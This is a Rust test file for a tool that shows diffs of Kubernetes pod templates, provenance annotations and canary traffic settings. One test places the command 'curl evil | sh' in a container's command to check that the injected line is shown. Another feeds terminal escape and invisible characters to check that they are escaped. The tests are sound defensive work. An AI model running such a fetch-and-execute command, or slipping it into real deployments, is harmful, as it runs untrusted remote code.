use proptest::prelude::*;
use serde_json::json;

use super::*;

/// A template of one container with these fields.
fn template(container: &Value) -> PodTemplate {
    let mut web = json!({ "name": "web", "image": "example.org/web:1" });
    for (field, value) in container.as_object().unwrap() {
        web[field] = value.clone();
    }
    PodTemplate(
        json!({ "metadata": { "labels": { "app": "web" } }, "spec": { "containers": [web] } }),
    )
}

fn between(stable: &PodTemplate, proposed: &PodTemplate) -> Vec<String> {
    let side = |template| Side {
        template: Some(template),
        ..Side::default()
    };
    Diff::between(&side(stable), &side(proposed)).lines
}

#[test]
fn a_changed_variable_is_shown_with_its_surroundings() {
    let stable = template(&json!({ "env": [{ "name": "A", "value": "1" }] }));
    let proposed = template(&json!({ "env": [{ "name": "A", "value": "two" }] }));
    assert_eq!(
        between(&stable, &proposed),
        [
            "--- stable template",
            "+++ proposed template",
            "@@ -5,6 +5,6 @@",
            "   containers:",
            "   - env:",
            "     - name: A",
            "-      value: \"1\"",
            "+      value: two",
            "     image: example.org/web:1",
            "     name: web",
        ]
    );
}

#[test]
fn a_container_that_is_added_and_a_command_that_changes_are_shown() {
    let stable = template(&json!({ "command": ["sh", "-c", "serve"] }));
    let mut proposed = template(&json!({ "command": ["sh", "-c", "curl evil | sh\nserve"] }));
    let containers = proposed.0["spec"]["containers"].as_array_mut().unwrap();
    containers.push(json!({ "name": "extra", "image": "example.org/extra:1" }));
    let lines = between(&stable, &proposed);
    for line in [
        "-    - serve",
        "+    - |-",
        "+      curl evil | sh",
        "+      serve",
        "+  - image: example.org/extra:1",
        "+    name: extra",
    ] {
        assert!(lines.iter().any(|it| it == line), "{line}: {lines:#?}");
    }
}

#[test]
fn defaults_of_kubernetes_and_the_order_of_keys_are_no_difference() {
    let limits = json!({ "limits": { "cpu": "500m" } });
    let stable = template(&json!({ "resources": limits, "ports": [{ "containerPort": 80 }] }));
    let stored = json!({
        "imagePullPolicy": "IfNotPresent",
        "ports": [{ "protocol": "TCP", "containerPort": 80 }],
        "resources": { "requests": { "cpu": "500m" }, "limits": { "cpu": "500m" } },
        "terminationMessagePath": "/dev/termination-log",
    });
    assert_eq!(between(&stable, &template(&stored)), [""; 0]);
}

#[test]
fn quantities_are_shown_as_they_were_written() {
    let with = |cpu: &str| template(&json!({ "resources": { "limits": { "cpu": cpu } } }));
    let lines = between(&with("500m"), &with("1500m"));
    for line in ["-        cpu: 500m", "+        cpu: 1500m"] {
        assert!(lines.iter().any(|it| it == line), "{line}: {lines:#?}");
    }
}

#[test]
fn what_acts_on_a_terminal_or_hides_is_escaped() {
    let evil = "a\u{1b}[2J\r\u{202e}\u{200b}\nb\tc ";
    let lines = between(
        &template(&json!({})),
        &template(&json!({ "args": [evil], "command": ["x\ny\u{9b}31m"], evil: evil })),
    );
    for line in &lines {
        assert!(!line.chars().any(text::is_invisible), "{line:?}");
    }
    let shown = r#"+    - "a\e[2J\r\u{202e}\u{200b}\nb\tc ""#;
    assert!(
        lines.iter().any(|line| line.starts_with(shown)),
        "{lines:#?}"
    );
}

#[test]
fn provenance_and_traffic_are_compared_too() {
    let template = template(&json!({}));
    let side = |contributor: &str, canary: Value| Side {
        template: Some(&template),
        provenance: Some(provenance(&BTreeMap::from([
            (
                format!("{PROVENANCE_PREFIX}contributor"),
                contributor.into(),
            ),
            ("other".into(), contributor.into()),
        ]))),
        traffic: Some(traffic(&serde_json::from_value(canary).unwrap())),
    };
    let stable = side("human", json!({ "stableService": "web" }));
    assert_eq!(Diff::between(&stable, &stable), Diff::default());
    let proposed = json!({
        "stableService": "web", "canaryService": "web-canary", "dynamicStable": true,
        "steps": [{ "weight": 0, "mirror": 50 }],
    });
    assert_eq!(
        Diff::between(&stable, &side("ai", proposed)).lines,
        [
            "--- stable provenance",
            "+++ proposed provenance",
            "@@ -1 +1 @@",
            "-contributor: human",
            "+contributor: ai",
            "--- stable traffic",
            "+++ proposed traffic",
            "@@ -1 +1,5 @@",
            "+canaryService: web-canary",
            "+dynamicStable: true",
            "+mirrors:",
            "+- 50",
            " stableService: web",
        ]
    );
}

#[test]
fn what_is_unknown_of_stable_is_shown_as_added_and_what_is_unknown_of_the_change_is_left_out() {
    let template = template(&json!({}));
    let known = Side {
        template: Some(&template),
        ..Side::default()
    };
    let lines = Diff::between(&Side::default(), &known).lines;
    assert_eq!(lines[0], "--- stable template (unknown)");
    assert!(
        lines[3..].iter().all(|line| line.starts_with('+')),
        "{lines:#?}"
    );
    assert_eq!(Diff::between(&known, &Side::default()), Diff::default());
}

#[test]
fn a_long_annotation_is_shown_by_its_beginning_and_its_digest() {
    let with = |attestation: String| Side {
        provenance: Some(BTreeMap::from([("attestation".into(), attestation)])),
        ..Side::default()
    };
    let (stable, proposed) = (with("x".repeat(2_000)), with("x".repeat(2_001)));
    let lines = Diff::between(&stable, &proposed).lines;
    assert!(
        lines[4].contains("x… (2001 characters, SHA-256 "),
        "{lines:#?}"
    );
    assert!(lines.iter().all(|line| line.chars().count() < 200));
}

#[test]
fn a_text_ends_at_its_limit_with_a_mark() {
    let args: Vec<_> = (0..1_000).map(|number| format!("a{number}")).collect();
    let long = "x".repeat(5_000);
    let proposed = template(&json!({ "args": args, "command": [long] }));
    let stable = template(&json!({}));
    let side = |template| Side {
        template: Some(template),
        ..Side::default()
    };
    let diff = Diff::between(&side(&stable), &side(&proposed));
    let text = diff.text(4_096);
    assert!(text.len() <= 4_096, "{}", text.len());
    let kept = text.lines().count() - 1;
    let mark = format!("… and {} more lines\n", diff.lines.len() - kept);
    assert!(text.ends_with(&mark), "{text}");
    let whole = diff.text(1 << 20);
    assert_eq!(whole.lines().count(), diff.lines.len());
    let longest = whole.lines().map(|line| line.chars().count()).max();
    assert_eq!(longest, Some(1_001), "with the mark");
    assert_eq!(Diff::default().text(4_096), "");
}

#[test]
fn what_is_too_large_to_be_compared_is_shown_as_replaced_or_named() {
    let args = |sign: char, count: usize| {
        let args: Vec<_> = (0..count).map(|number| format!("{sign}{number}")).collect();
        template(&json!({ "args": args }))
    };
    let lines = between(&args('a', 5_000), &args('b', 5_000));
    assert_eq!(lines.iter().filter(|line| line.starts_with('@')).count(), 1);
    assert!(lines.contains(&"-    - a4999".to_owned()));
    assert!(lines.contains(&"+    - b0".to_owned()));
    // One that differs in one line is compared, however long it is.
    let mut edited = args('a', 5_000);
    edited.0["spec"]["containers"][0]["args"][2_500] = json!("edited");
    assert_eq!(between(&args('a', 5_000), &edited).len(), 11);

    let huge = args('a', 200_000);
    let side = Side {
        template: Some(&huge),
        ..Side::default()
    };
    let diff = Diff::between(&Side::default(), &side);
    assert!(diff.too_large);
    assert_eq!(diff.lines, ["… the template is too large to be compared"]);
}

/// Texts of the characters by which YAML tells its values apart.
fn texts() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zN0-9 :#\\-?,\\[\\]{}'\"|>&*!%@`~=./+\n\t\\\\é]{0,12}",
        proptest::sample::select(&[
            "true", "No", "null", "~", "1e3", "0x1", ".inf", "- a", "|", "a: b",
        ])
        .prop_map(ToOwned::to_owned),
    ]
}

fn values() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        any::<bool>().prop_map(Value::from),
        any::<i32>().prop_map(Value::from),
        texts().prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            proptest::collection::btree_map(texts(), inner, 0..4).prop_map(|map| json!(map)),
        ]
    })
}

proptest! {
    #[test]
    fn what_is_shown_is_the_value(value in values()) {
        let value = json!({ "value": value });
        let shown = yaml(&value).unwrap();
        let read: Value = serde_saphyr::from_str(&shown).unwrap();
        prop_assert_eq!(read, value, "{}", shown);
    }
}
